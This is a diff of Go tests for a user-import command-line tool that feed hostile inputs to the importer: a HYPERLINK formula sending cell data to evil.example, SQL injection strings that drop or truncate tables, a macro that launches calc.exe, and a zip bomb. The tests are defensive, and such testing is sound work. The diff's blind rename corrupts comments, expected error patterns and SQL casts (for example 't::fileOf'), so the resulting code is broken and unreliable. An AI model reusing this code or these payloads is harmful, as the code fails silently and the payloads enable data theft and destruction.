@@ -32,23 +32,23 @@ import (
 
 // The bad-input matrix of docs/RELIABILITY.md: every row is a subtest of
 // TestBadInput, run through the real binary against a tenant loaded with
-// the demo users. File-level findings must exit 1 and leave the users,
-// batches, changes and activation_outbox tables exactly as they were; row
+// the demo users. File-level findings noErr exit 1 and leave the users,
+// batches, changes and activation_outbox auditedTables exactly as they were; row
 // findings exit 3 and apply only the valid rows. Big and binary inputs are
 // generated here, never committed.
 
 const (
-	actor = "marie.dubois@acme.example"
-	head  = "Email,First Name,Last Name,PBX\n"
-	good1 = "new.one@acme.example,New,One,paris\n"
-	good2 = "new.two@acme.example,New,Two,paris\n"
+	primaryAdmin = "marie.dubois@acme.example"
+	inputHeader  = "Email,First Name,Last Name,PBX\n"
+	good1        = "new.one@acme.example,New,One,paris\n"
+	good2        = "new.two@acme.example,New,Two,paris\n"
 )
 
-// dbWant is what a case must leave in the database.
+// dbWant is what a case noErr leave in the database.
 type dbWant int
 
 const (
-	// unchanged: the users, batches, changes and outbox tables are exactly as before.
+	// unchanged: the users, batches, changes and outbox auditedTables are exactly as before.
 	unchanged dbWant = iota
 	// noUserChange: users and changes as before; one more batch (applied, nothing changed).
 	noUserChange
@@ -62,65 +62,65 @@ type badInput struct {
 	write   func(t *testing.T, path string)      // writes the input (nil: nothing is written)
 	stdin   func(t *testing.T) *os.File          // standard input (nil: none)
 	extra   []string                             // more arguments
-	before  func(t *testing.T, tn *tenant)       // runs before the import starts (nil: none)
+	before  func(t *testing.T, tn *demoTenant)   // runs before the import starts (nil: none)
 	during  func(t *testing.T, h *runningImport) // runs while the import runs (nil: none)
 	exit    int
-	stderr  []string // regular expressions the standard error must match
-	stdout  []string // regular expressions the standard output must match
+	stderr  []string // regular expressions the standard error noErr match
+	stdout  []string // regular expressions the standard output noErr match
 	db      dbWant
-	created []string // with applied: emails that must now exist
-	absent  []string // emails that must not exist afterwards
+	created []string // with applied: emails that noErr now exist
+	absent  []string // emails that noErr not exist afterwards
 	check   func(t *testing.T, db *sqlx.DB, dir string)
 }
 
-func text(s string) func(*testing.T, string) {
-	return func(t *testing.T, path string) { writeFile(t, path, []byte(s)) }
+func fileOf(s string) func(*testing.T, string) {
+	return func(t *testing.T, path string) { writeInput(t, path, []byte(s)) }
 }
 
 func TestBadInput(t *testing.T) {
 	cases := []badInput{
-		{name: "EmptyFile", file: "empty.csv", write: text(""), exit: 1,
+		{name: "EmptyFile", file: "empty.csv", write: fileOf(""), exit: 1,
 			stderr: []string{`^ccbulk: empty\.csv: F-HEADER: the file is empty; it needs a header row with at least an Email column\n$`}},
-		{name: "HeaderOnly", file: "header.csv", write: text(head), exit: 0, db: noUserChange,
+		{name: "HeaderOnly", file: "header.csv", write: fileOf(inputHeader), exit: 0, db: noUserChange,
 			stdout: []string{`^header\.csv: 0 rows: 0 created, 0 updated, 0 unchanged, 0 rejected\napplied as batch \d+\n$`}},
-		{name: "NoEmailColumn", file: "noemail.csv", write: text("Name,Notes\nNew One,hello\n"), exit: 1,
-			stderr: []string{`^ccbulk: noemail\.csv:1: F-HEADER: no Email column; the first row must be the header, with at least Email \(the header read was "Name", "Notes"\)\n$`}},
-		{name: "DuplicateHeaders", file: "dup.csv", write: text("Email,First Name,E-mail\n" + "new.one@acme.example,New,x@acme.example\n"), exit: 1,
+		{name: "NoEmailColumn", file: "noemail.csv", write: fileOf("Name,Notes\nNew One,hello\n"), exit: 1,
+			stderr: []string{`^ccbulk: noemail\.csv:1: F-HEADER: no Email column; the first row noErr be the header, with at least Email \(the header read was "Name", "Notes"\)\n$`}},
+		{name: "DuplicateHeaders", file: "dup.csv", write: fileOf("Email,First Name,E-mail\n" + "new.one@acme.example,New,x@acme.example\n"), exit: 1,
 			stderr: []string{`^ccbulk: dup\.csv:1: E-mail: F-HEADER: columns A and C \("Email" and "E-mail"\) both name the Email column; keep one of them\n$`}},
-		{name: "BrokenQuotingUnclosed", file: "quote.csv", write: text(head + good1 + "new.two@acme.example,\"New,Two,paris\n" + good1), exit: 1,
+		{name: "BrokenQuotingUnclosed", file: "quote.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,\"New,Two,paris\n" + good1), exit: 1,
 			stderr: []string{`^ccbulk: quote\.csv:3: F-FORMAT: line 3: the quoted cell that starts on this line is not closed \(the file ends on line 4\);`}},
-		{name: "BrokenQuotingBare", file: "bare.csv", write: text(head + good1 + "new.two@acme.example,Ne\"w,Two,paris\n"), exit: 1,
+		{name: "BrokenQuotingBare", file: "bare.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Ne\"w,Two,paris\n"), exit: 1,
 			stderr: []string{`^ccbulk: bare\.csv:3: F-FORMAT: line 3, byte 24: bare " in non-quoted-field; check the quotes on that line`}},
-		{name: "RaggedShortRows", file: "short.csv", write: text(head + good1 + "jean.martin@acme.example,Jean\n"), exit: 0, db: applied,
+		{name: "RaggedShortRows", file: "short.csv", write: fileOf(inputHeader + good1 + "jean.martin@acme.example,Jean\n"), exit: 0, db: applied,
 			created: []string{"new.one@acme.example"},
 			stdout:  []string{`^short\.csv: 2 rows: 1 created, 0 updated, 1 unchanged, 0 rejected\n`}},
-		{name: "RaggedLongRow", file: "long.csv", write: text(head + good1 + "new.two@acme.example,New,Two,paris,extra\n"), exit: 1,
-			stderr: []string{`^ccbulk: long\.csv:3: F-FORMAT: line 3 has 5 cells but the header has 4; a cell holding the delimiter must be quoted, or the header is missing a column\n$`}},
-		{name: "NULInCell", file: "nul.csv", write: text(head + good1 + "new.two@acme.example,Ne\x00w,Two,paris\n"), exit: 3, db: applied,
+		{name: "RaggedLongRow", file: "long.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,New,Two,paris,extra\n"), exit: 1,
+			stderr: []string{`^ccbulk: long\.csv:3: F-FORMAT: line 3 has 5 cells but the header has 4; a cell holding the delimiter noErr be quoted, or the header is missing a column\n$`}},
+		{name: "NULInCell", file: "nul.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Ne\x00w,Two,paris\n"), exit: 3, db: applied,
 			created: []string{"new.one@acme.example"}, absent: []string{"new.two@acme.example"},
 			stdout: []string{`(?m)^nul\.csv:3: First Name: R-TEXT: holds the control character U\+0000 at character 3; remove it`}},
-		{name: "NULInHeader", file: "nulhead.csv", write: text("Email,First\x00Name\n" + good1), exit: 1,
+		{name: "NULInHeader", file: "nulhead.csv", write: fileOf("Email,First\x00Name\n" + good1), exit: 1,
 			stderr: []string{`^ccbulk: nulhead\.csv:1: F-ENCODING: the header line holds NUL bytes: the file looks like UTF-16 without a byte-order mark`}},
-		{name: "MegabyteCell", file: "big.csv", write: text(head + good1 + "new.two@acme.example," + strings.Repeat("x", 1<<20) + ",Two,paris\n"), exit: 3, db: applied,
+		{name: "MegabyteCell", file: "big.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example," + strings.Repeat("x", 1<<20) + ",Two,paris\n"), exit: 3, db: applied,
 			created: []string{"new.one@acme.example"}, absent: []string{"new.two@acme.example"},
 			stdout: []string{`(?m)^big\.csv:3: First Name: R-TEXT: is 1048576 characters long, over the limit of 1000; shorten it$`}},
 		{name: "HundredThousandColumns", file: "wide.csv", write: wideCSV(100_000), exit: 1,
 			stderr: []string{`^ccbulk: wide\.csv:1: F-LIMIT: the header has 100000 columns, over the limit of 1024; remove the extra columns\n$`}},
-		{name: "InvalidUTF8", file: "latin.csv", write: text(head + good1 + "new.two@acme.example,Andr\xe9,Two,paris\n"), exit: 1,
+		{name: "InvalidUTF8", file: "latin.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Andr\xe9,Two,paris\n"), exit: 1,
 			stderr: []string{`^ccbulk: latin\.csv:3: First Name: F-ENCODING: line 3, byte 26: not valid UTF-8; save the file as CSV UTF-8, or name its encoding with --encoding`}},
-		{name: "UTF16WithoutBOM", file: "utf16.csv", write: utf16File(head+good1, false), exit: 1,
+		{name: "UTF16WithoutBOM", file: "utf16.csv", write: utf16File(inputHeader+good1, false), exit: 1,
 			stderr: []string{`^ccbulk: utf16\.csv:1: F-ENCODING: the header line holds NUL bytes: the file looks like UTF-16 without a byte-order mark; save it as CSV UTF-8`}},
-		{name: "UTF16WithBOM", file: "utf16bom.csv", write: utf16File(head+good1, true), exit: 0, db: applied,
+		{name: "UTF16WithBOM", file: "utf16bom.csv", write: utf16File(inputHeader+good1, true), exit: 0, db: applied,
 			created: []string{"new.one@acme.example"}},
 		{name: "TruncatedXLSX", file: "cut.xlsx", write: truncatedXLSX, exit: 1,
 			stderr: []string{`^ccbulk: cut\.xlsx: F-FORMAT: not a readable XLSX workbook \(zip: not a valid zip file\); save it again from the spreadsheet program`}},
-		{name: "NotZipNamedXLSX", file: "users.xlsx", write: text(head + good1), exit: 1,
+		{name: "NotZipNamedXLSX", file: "users.xlsx", write: fileOf(inputHeader + good1), exit: 1,
 			stderr: []string{`^ccbulk: users\.xlsx: F-FORMAT: is named \.xlsx but is not an XLSX workbook \(an XLSX file is a zip archive; this one starts with "Email,Fi"\); if it is a CSV file, name it \.csv\n$`}},
 		{name: "XLSXZipBomb", file: "bomb.xlsx", write: zipBomb, exit: 1,
 			stderr: []string{`^ccbulk: bomb\.xlsx: F-LIMIT: the workbook decompresses to more than 4294967296 bytes; it is not an honest sheet of users \(or raise --max-unzip-size\)\n$`}},
 		externalLinksAndMacros(),
 		{name: "FormulaInCell", file: "formula.csv",
-			write: text(head + `new.one@acme.example,"=HYPERLINK(""http://evil.example/?""&A1)",+1 555 0100,paris` + "\n" +
+			write: fileOf(inputHeader + `new.one@acme.example,"=HYPERLINK(""http://evil.example/?""&A1)",+1 555 0100,paris` + "\n" +
 				`new.two@acme.example,'@SUM(1+1),-2,paris` + "\n"),
 			exit: 0, db: applied, created: []string{"new.one@acme.example", "new.two@acme.example"},
 			check: checkFormulas},
@@ -129,10 +129,10 @@ func TestBadInput(t *testing.T) {
 		fileChangesWhileRead(),
 		{name: "MissingFile", file: "missing.csv", exit: 1,
 			stderr: []string{`^ccbulk: missing\.csv: F-FORMAT: cannot read the file: no such file or directory; check the path\n$`}},
-		{name: "DirectoryInsteadOfFile", file: "folder.csv", write: func(t *testing.T, path string) { must(t, os.Mkdir(path, 0o755)) }, exit: 1,
+		{name: "DirectoryInsteadOfFile", file: "folder.csv", write: func(t *testing.T, path string) { noErr(t, os.Mkdir(path, 0o755)) }, exit: 1,
 			stderr: []string{`^ccbulk: folder\.csv: F-FORMAT: is a directory, not a CSV or XLSX file; name the file inside it\n$`}},
-		{name: "StdinClosedEarly", file: "-", stdin: pipeOf(head + good1 + "new.two@acme.example,\"Ne"), exit: 1,
-			stderr: []string{`^ccbulk: <stdin>:3: F-FORMAT: line 3, byte 25: a quoted cell is not closed, or has text after its closing quote; write a quote inside a quoted cell twice \(""\)\n$`}},
+		{name: "StdinClosedEarly", file: "-", stdin: pipeOf(inputHeader + good1 + "new.two@acme.example,\"Ne"), exit: 1,
+			stderr: []string{`^ccbulk: <stdin>:3: F-FORMAT: line 3, byte 25: a quoted cell is not closed, or has fileOf after its closing quote; write a quote inside a quoted cell twice \(""\)\n$`}},
 		{name: "StdinClosedAtOnce", file: "-", stdin: pipeOf(""), exit: 1,
 			stderr: []string{`^ccbulk: <stdin>: F-HEADER: the file is empty; it needs a header row with at least an Email column\n$`}},
 	}
@@ -142,13 +142,13 @@ func TestBadInput(t *testing.T) {
 	}
 }
 
-// tenant is a database holding the demo organization and its users.
-type tenant struct {
+// demoTenant is a database holding the demo organization and its users.
+type demoTenant struct {
 	url string
 	db  *sqlx.DB
 }
 
-func newTenant(t *testing.T, server string) *tenant {
+func newDemoTenant(t *testing.T, server string) *demoTenant {
 	t.Helper()
 	url, drop, err := testdb.Create(server)
 	if err != nil {
@@ -160,27 +160,27 @@ func newTenant(t *testing.T, server string) *tenant {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { db.Close(); drop() })
-	tn := &tenant{url: url, db: db}
+	tn := &demoTenant{url: url, db: db}
 	dir := t.TempDir()
 	cmd := exec.Command("bash", filepath.Join(fixturesDir(), "demo", "org.sh"))
 	cmd.Env = append(os.Environ(), "DATABASE_URL="+url, "CCBULK="+ccbulkPath())
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("org.sh: %v\n%s", err, out)
 	}
-	copyFile(t, filepath.Join(fixturesDir(), "demo", "users.csv"), filepath.Join(dir, "users.csv"))
-	if r := tn.run(t, dir, nil, "import", "users.csv", "--org", "acme", "--actor", actor); r.code != 0 {
+	copyInput(t, filepath.Join(fixturesDir(), "demo", "users.csv"), filepath.Join(dir, "users.csv"))
+	if r := tn.run(t, dir, nil, "import", "users.csv", "--org", "acme", "--actor", primaryAdmin); r.code != 0 {
 		t.Fatalf("loading the demo users: exit %d\n%s%s", r.code, r.stdout, r.stderr)
 	}
 	return tn
 }
 
-type result struct {
+type runResult struct {
 	code           int
 	stdout, stderr string
 }
 
-// run runs the real binary in dir against the tenant's database.
-func (tn *tenant) run(t *testing.T, dir string, stdin *os.File, args ...string) result {
+// run runs the real binary in dir against the demoTenant's database.
+func (tn *demoTenant) run(t *testing.T, dir string, stdin *os.File, args ...string) runResult {
 	t.Helper()
 	h := tn.start(t, dir, stdin, args...)
 	return h.wait(t)
@@ -189,11 +189,11 @@ func (tn *tenant) run(t *testing.T, dir string, stdin *os.File, args ...string) 
 type runningImport struct {
 	cmd            *exec.Cmd
 	stdout, stderr bytes.Buffer
-	tn             *tenant
+	tn             *demoTenant
 	dir            string
 }
 
-func (tn *tenant) start(t *testing.T, dir string, stdin *os.File, args ...string) *runningImport {
+func (tn *demoTenant) start(t *testing.T, dir string, stdin *os.File, args ...string) *runningImport {
 	t.Helper()
 	h := &runningImport{tn: tn, dir: dir}
 	h.cmd = exec.Command(ccbulkPath(), args...)
@@ -209,7 +209,7 @@ func (tn *tenant) start(t *testing.T, dir string, stdin *os.File, args ...string
 	return h
 }
 
-func (h *runningImport) wait(t *testing.T) result {
+func (h *runningImport) wait(t *testing.T) runResult {
 	t.Helper()
 	err := h.cmd.Wait()
 	code := 0
@@ -220,11 +220,11 @@ func (h *runningImport) wait(t *testing.T) result {
 		}
 		code = ee.ExitCode()
 	}
-	return result{code: code, stdout: h.stdout.String(), stderr: h.stderr.String()}
+	return runResult{code: code, stdout: h.stdout.String(), stderr: h.stderr.String()}
 }
 
 func runBadInput(t *testing.T, server string, tc badInput) {
-	tn := newTenant(t, server)
+	tn := newDemoTenant(t, server)
 	dir := t.TempDir()
 	if tc.write != nil {
 		tc.write(t, filepath.Join(dir, tc.file))
@@ -235,7 +235,7 @@ func runBadInput(t *testing.T, server string, tc badInput) {
 	}
 	before := dumpTables(t, tn.db)
 	usersBefore := dumpUsersExcept(t, tn.db, tc.created)
-	args := append([]string{"import", tc.file, "--org", "acme", "--actor", actor}, tc.extra...)
+	args := append([]string{"import", tc.file, "--org", "acme", "--actor", primaryAdmin}, tc.extra...)
 	if tc.before != nil {
 		tc.before(t, tn)
 	}
@@ -259,7 +259,7 @@ func runBadInput(t *testing.T, server string, tc badInput) {
 	after := dumpTables(t, tn.db)
 	switch tc.db {
 	case unchanged:
-		for _, table := range tables {
+		for _, table := range auditedTables {
 			if before[table] != after[table] {
 				t.Errorf("table %s changed:\nbefore:\n%s\nafter:\n%s", table, before[table], after[table])
 			}
@@ -293,15 +293,15 @@ func runBadInput(t *testing.T, server string, tc badInput) {
 	}
 }
 
-var tables = []string{"users", "batches", "changes", "activation_outbox"}
+var auditedTables = []string{"users", "batches", "changes", "activation_outbox"}
 
-// dumpTables returns every row of the tables ccbulk writes, as text.
+// dumpTables returns every row of the auditedTables ccbulk writes, as fileOf.
 func dumpTables(t *testing.T, db *sqlx.DB) map[string]string {
 	t.Helper()
 	m := map[string]string{}
-	for _, table := range tables {
+	for _, table := range auditedTables {
 		var s string
-		q := fmt.Sprintf(`SELECT coalesce(string_agg(t::text, E'\n' ORDER BY t::text), '') FROM %s t`, table)
+		q := fmt.Sprintf(`SELECT coalesce(string_agg(t::fileOf, E'\n' ORDER BY t::fileOf), '') FROM %s t`, table)
 		if err := db.Get(&s, q); err != nil {
 			t.Fatal(err)
 		}
@@ -313,7 +313,7 @@ func dumpTables(t *testing.T, db *sqlx.DB) map[string]string {
 func dumpUsersExcept(t *testing.T, db *sqlx.DB, emails []string) string {
 	t.Helper()
 	var s string
-	err := db.Get(&s, `SELECT coalesce(string_agg(t::text, E'\n' ORDER BY t::text), '') FROM users t WHERE NOT email = ANY($1)`, pq.StringArray(emails))
+	err := db.Get(&s, `SELECT coalesce(string_agg(t::fileOf, E'\n' ORDER BY t::fileOf), '') FROM users t WHERE NOT email = ANY($1)`, pq.StringArray(emails))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -345,23 +345,23 @@ func fixturesDir() string {
 	return filepath.Join(filepath.Dir(file), "..", "..", "fixtures")
 }
 
-func must(t *testing.T, err error) {
+func noErr(t *testing.T, err error) {
 	t.Helper()
 	if err != nil {
 		t.Fatal(err)
 	}
 }
 
-func writeFile(t *testing.T, path string, b []byte) {
+func writeInput(t *testing.T, path string, b []byte) {
 	t.Helper()
-	must(t, os.WriteFile(path, b, 0o644))
+	noErr(t, os.WriteFile(path, b, 0o644))
 }
 
-func copyFile(t *testing.T, from, to string) {
+func copyInput(t *testing.T, from, to string) {
 	t.Helper()
 	b, err := os.ReadFile(from)
-	must(t, err)
-	writeFile(t, to, b)
+	noErr(t, err)
+	writeInput(t, to, b)
 }
 
 // pipeOf returns standard input that yields s and then ends, as when the
@@ -369,7 +369,7 @@ func copyFile(t *testing.T, from, to string) {
 func pipeOf(s string) func(*testing.T) *os.File {
 	return func(t *testing.T) *os.File {
 		r, w, err := os.Pipe()
-		must(t, err)
+		noErr(t, err)
 		go func() {
 			w.WriteString(s)
 			w.Close()
@@ -387,7 +387,7 @@ func wideCSV(columns int) func(*testing.T, string) {
 			fmt.Fprintf(&b, ",C%d", i)
 		}
 		b.WriteString("\n" + strings.TrimSuffix(good1, "\n") + strings.Repeat(",", columns-4) + "\n")
-		writeFile(t, path, []byte(b.String()))
+		writeInput(t, path, []byte(b.String()))
 	}
 }
 
@@ -400,7 +400,7 @@ func utf16File(s string, bom bool) func(*testing.T, string) {
 		for _, u := range utf16.Encode([]rune(s)) {
 			b = append(b, byte(u), byte(u>>8))
 		}
-		writeFile(t, path, b)
+		writeInput(t, path, b)
 	}
 }
 
@@ -409,12 +409,12 @@ func workbook(t *testing.T, rows ...[]string) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	w, err := sheet.NewWriter(sheet.XLSX, &buf, sheet.WriterOptions{})
-	must(t, err)
-	must(t, w.WriteHeader(strings.Split(strings.TrimSpace(head), ",")))
+	noErr(t, err)
+	noErr(t, w.WriteHeader(strings.Split(strings.TrimSpace(inputHeader), ",")))
 	for _, r := range rows {
-		must(t, w.WriteRow(r, nil))
+		noErr(t, w.WriteRow(r, nil))
 	}
-	must(t, w.Close())
+	noErr(t, w.Close())
 	return buf.Bytes()
 }
 
@@ -422,7 +422,7 @@ func csvRow(s string) []string { return strings.Split(strings.TrimSpace(s), ",")
 
 func truncatedXLSX(t *testing.T, path string) {
 	b := workbook(t, csvRow(good1), csvRow(good2))
-	writeFile(t, path, b[:len(b)/2])
+	writeInput(t, path, b[:len(b)/2])
 }
 
 // zipBomb writes a workbook whose worksheet is valid XML that decompresses
@@ -438,16 +438,16 @@ func zipBomb(t *testing.T, path string) {
 
 	var buf bytes.Buffer
 	fw, err := flate.NewWriter(&buf, flate.BestCompression)
-	must(t, err)
+	noErr(t, err)
 	fw.Write(prefix)
 	fw.Write(spaces)
-	must(t, fw.Flush()) // byte-aligned from here on
+	noErr(t, fw.Flush()) // byte-aligned from here on
 	start := buf.Len()
 	fw.Write(spaces)
-	must(t, fw.Flush())
+	noErr(t, fw.Flush())
 	segment := slices.Clone(buf.Bytes()[start:]) // one more megabyte of spaces
 	fw.Write(suffix)
-	must(t, fw.Close())
+	noErr(t, fw.Close())
 	tail := slices.Clone(buf.Bytes()[start+len(segment):])
 
 	var stream bytes.Buffer
@@ -470,32 +470,32 @@ func zipBomb(t *testing.T, path string) {
 		if name == "xl/worksheets/sheet1.xml" {
 			w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
 				CompressedSize64: uint64(stream.Len()), UncompressedSize64: size})
-			must(t, err)
+			noErr(t, err)
 			_, err = w.Write(stream.Bytes())
-			must(t, err)
+			noErr(t, err)
 			continue
 		}
 		w, err := zw.Create(name)
-		must(t, err)
+		noErr(t, err)
 		_, err = w.Write(parts[name])
-		must(t, err)
+		noErr(t, err)
 	}
-	must(t, zw.Close())
-	writeFile(t, path, out.Bytes())
+	noErr(t, zw.Close())
+	writeInput(t, path, out.Bytes())
 }
 
 func zipParts(t *testing.T, book []byte) map[string][]byte {
 	t.Helper()
 	zr, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
-	must(t, err)
+	noErr(t, err)
 	parts := map[string][]byte{}
 	for _, f := range zr.File {
 		rc, err := f.Open()
-		must(t, err)
+		noErr(t, err)
 		var b bytes.Buffer
 		_, err = b.ReadFrom(rc)
 		rc.Close()
-		must(t, err)
+		noErr(t, err)
 		parts[f.Name] = b.Bytes()
 	}
 	return parts
@@ -512,7 +512,7 @@ func sortedKeys(m map[string][]byte) []string {
 
 // externalLinksAndMacros: a macro-enabled workbook whose cell is a formula
 // over an external workbook served by a test HTTP server. ccbulk reads the
-// cells' values as text: the macros never run and the link is never
+// cells' values as fileOf: the macros never run and the link is never
 // fetched.
 func externalLinksAndMacros() badInput {
 	var hits atomic.Int64
@@ -525,12 +525,12 @@ func externalLinksAndMacros() badInput {
 			t.Cleanup(srv.Close)
 			var buf bytes.Buffer
 			book := excelize.NewFile()
-			must(t, book.SetSheetRow("Sheet1", "A1", &[]any{"Email", "First Name", "Last Name", "PBX"}))
-			must(t, book.SetSheetRow("Sheet1", "A2", &[]any{"new.one@acme.example", "New", "One", "paris"}))
-			must(t, book.SetCellFormula("Sheet1", "B2", "[1]Sheet1!A1"))
-			must(t, book.SetCellHyperLink("Sheet1", "C2", srv.URL+"/link", "External"))
-			must(t, book.Write(&buf))
-			must(t, book.Close())
+			noErr(t, book.SetSheetRow("Sheet1", "A1", &[]any{"Email", "First Name", "Last Name", "PBX"}))
+			noErr(t, book.SetSheetRow("Sheet1", "A2", &[]any{"new.one@acme.example", "New", "One", "paris"}))
+			noErr(t, book.SetCellFormula("Sheet1", "B2", "[1]Sheet1!A1"))
+			noErr(t, book.SetCellHyperLink("Sheet1", "C2", srv.URL+"/link", "External"))
+			noErr(t, book.Write(&buf))
+			noErr(t, book.Close())
 			parts := zipParts(t, buf.Bytes())
 			parts["xl/vbaProject.bin"] = []byte("Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc.exe\"\nEnd Sub\n")
 			parts["xl/externalLinks/externalLink1.xml"] = []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>New</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`)
@@ -548,12 +548,12 @@ func externalLinksAndMacros() badInput {
 			zw := zip.NewWriter(&out)
 			for _, name := range sortedKeys(parts) {
 				w, err := zw.Create(name)
-				must(t, err)
+				noErr(t, err)
 				_, err = w.Write(parts[name])
-				must(t, err)
+				noErr(t, err)
 			}
-			must(t, zw.Close())
-			writeFile(t, path, out.Bytes())
+			noErr(t, zw.Close())
+			writeInput(t, path, out.Bytes())
 		},
 		stdout: []string{`^macros\.xlsx: 1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected\n`},
 		check: func(t *testing.T, db *sqlx.DB, dir string) {
@@ -564,29 +564,29 @@ func externalLinksAndMacros() badInput {
 	}
 }
 
-// checkFormulas: cells that a spreadsheet would run are stored as the text
-// they are, and the export writes them so that they show as text.
+// checkFormulas: cells that a spreadsheet would run are stored as the fileOf
+// they are, and the export writes them so that they show as fileOf.
 func checkFormulas(t *testing.T, db *sqlx.DB, dir string) {
 	t.Helper()
 	var names []string
-	must(t, db.Select(&names, `SELECT first_name || '|' || last_name FROM users WHERE email IN ('new.one@acme.example', 'new.two@acme.example') ORDER BY email`))
+	noErr(t, db.Select(&names, `SELECT first_name || '|' || last_name FROM users WHERE email IN ('new.one@acme.example', 'new.two@acme.example') ORDER BY email`))
 	want := []string{`=HYPERLINK("http://evil.example/?"&A1)|+1 555 0100`, `@SUM(1+1)|-2`}
 	if !slices.Equal(names, want) {
 		t.Errorf("stored %q, want %q", names, want)
 	}
-	tn := &tenant{url: dbURL(t, db), db: db}
-	r := tn.run(t, dir, nil, "export", "--org", "acme", "--actor", actor, "-o", "export.csv")
+	tn := &demoTenant{url: dbURL(t, db), db: db}
+	r := tn.run(t, dir, nil, "export", "--org", "acme", "--actor", primaryAdmin, "-o", "export.csv")
 	if r.code != 0 {
 		t.Fatalf("export: exit %d: %s", r.code, r.stderr)
 	}
 	b, err := os.ReadFile(filepath.Join(dir, "export.csv"))
-	must(t, err)
+	noErr(t, err)
 	for _, line := range []string{`new.one@acme.example,"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 555 0100,`, `new.two@acme.example,'@SUM(1+1),'-2,`} {
 		if !strings.Contains(string(b), line) {
 			t.Errorf("export has no line starting %s:\n%s", line, b)
 		}
 	}
-	r = tn.run(t, dir, nil, "import", "export.csv", "--org", "acme", "--actor", actor, "--json")
+	r = tn.run(t, dir, nil, "import", "export.csv", "--org", "acme", "--actor", primaryAdmin, "--json")
 	if r.code != 0 || !strings.Contains(r.stdout, `"created":0,"updated":0,`) {
 		t.Errorf("the export does not import back unchanged: exit %d\n%s%s", r.code, r.stdout, r.stderr)
 	}
@@ -595,16 +595,16 @@ func checkFormulas(t *testing.T, db *sqlx.DB, dir string) {
 func dbURL(t *testing.T, db *sqlx.DB) string {
 	t.Helper()
 	var name string
-	must(t, db.Get(&name, `SELECT current_database()`))
+	noErr(t, db.Get(&name, `SELECT current_database()`))
 	u, err := testdb.WithDatabase(testdb.ServerURL(t), name)
-	must(t, err)
+	noErr(t, err)
 	return u
 }
 
-// sqlInEveryTextColumn: SQL in every text column is data. Names and
+// sqlInEveryTextColumn: SQL in every fileOf column is data. Names and
 // usernames are stored as written; the columns that name something
 // (PBX, Status, Home Organization, CC Role, Copy Privileges From) reject
-// their row with the value quoted; the tables are intact.
+// their row with the value quoted; the auditedTables are intact.
 func sqlInEveryTextColumn() badInput {
 	const inj = `x'); DROP TABLE users; --`
 	header := "Email,First Name,Last Name,Display Name,Username,PBX,Status,Home Organization,CC Role,Copy Privileges From\n"
@@ -617,7 +617,7 @@ func sqlInEveryTextColumn() badInput {
 		`copy@acme.example,,,,,paris,,,,` + inj,
 	}
 	return badInput{
-		name: "SQLInEveryTextColumn", file: "sql.csv", write: text(header + strings.Join(rows, "\n") + "\n"),
+		name: "SQLInEveryTextColumn", file: "sql.csv", write: fileOf(header + strings.Join(rows, "\n") + "\n"),
 		exit: 3, db: applied, created: []string{"x'or'1'='1@acme.example"},
 		absent: []string{"pbx@acme.example", "status@acme.example", "home@acme.example", "ccrole@acme.example", "copy@acme.example"},
 		stdout: []string{
@@ -631,13 +631,13 @@ func sqlInEveryTextColumn() badInput {
 			var u struct {
 				First, Last, Display, Username string
 			}
-			must(t, db.Get(&u, `SELECT first_name AS first, last_name AS last, display_name AS display, username FROM users WHERE email = $1`,
+			noErr(t, db.Get(&u, `SELECT first_name AS first, last_name AS last, display_name AS display, username FROM users WHERE email = $1`,
 				"x'or'1'='1@acme.example"))
 			if u.First != inj || u.Last != `Robert"); DELETE FROM batches; --` || u.Display != `1' OR '1'='1` || u.Username != `bobby'; TRUNCATE changes; --` {
 				t.Errorf("stored %+v", u)
 			}
 			var n int
-			must(t, db.Get(&n, `SELECT (SELECT count(*) FROM batches) + (SELECT count(*) FROM changes)`))
+			noErr(t, db.Get(&n, `SELECT (SELECT count(*) FROM batches) + (SELECT count(*) FROM changes)`))
 			if n < 2 {
 				t.Errorf("batches or changes were emptied")
 			}
@@ -650,7 +650,7 @@ func sqlInEveryTextColumn() badInput {
 func unicodeEmail() badInput {
 	return badInput{
 		name: "EmailUnicodeAndOddCase", file: "unicode.csv",
-		write: text(head +
+		write: fileOf(inputHeader +
 			"  ŁUKASZ.Wójcik-Nowy@ACME.Example ,Łukasz,Wójcik,warsaw\n" +
 			"łukasz.wójcik-nowy@acme.example,Łukasz,Wójcik,warsaw\n" +
 			"MARIE.DUBOIS@Acme.Example,Marie,,\n" +
@@ -666,29 +666,29 @@ func unicodeEmail() badInput {
 	}
 }
 
-// fileChangesWhileRead: the import waits for the tenant's lock (held by
+// fileChangesWhileRead: the import waits for the demoTenant's lock (held by
 // the test) after it has opened and started reading the file; the test
-// appends a row meanwhile. The run must refuse the file, not import a mix.
+// appends a row meanwhile. The run noErr refuse the file, not import a mix.
 func fileChangesWhileRead() badInput {
 	var lockConn *sqlx.Conn
 	return badInput{
-		name: "FileChangesWhileRead", file: "moving.csv", write: text(head + good1), exit: 1,
+		name: "FileChangesWhileRead", file: "moving.csv", write: fileOf(inputHeader + good1), exit: 1,
 		extra: []string{"--lock-wait", "60s"},
-		before: func(t *testing.T, tn *tenant) {
+		before: func(t *testing.T, tn *demoTenant) {
 			ctx := context.Background()
 			var err error
 			lockConn, err = tn.db.Connx(ctx)
-			must(t, err)
+			noErr(t, err)
 			t.Cleanup(func() { lockConn.Close() })
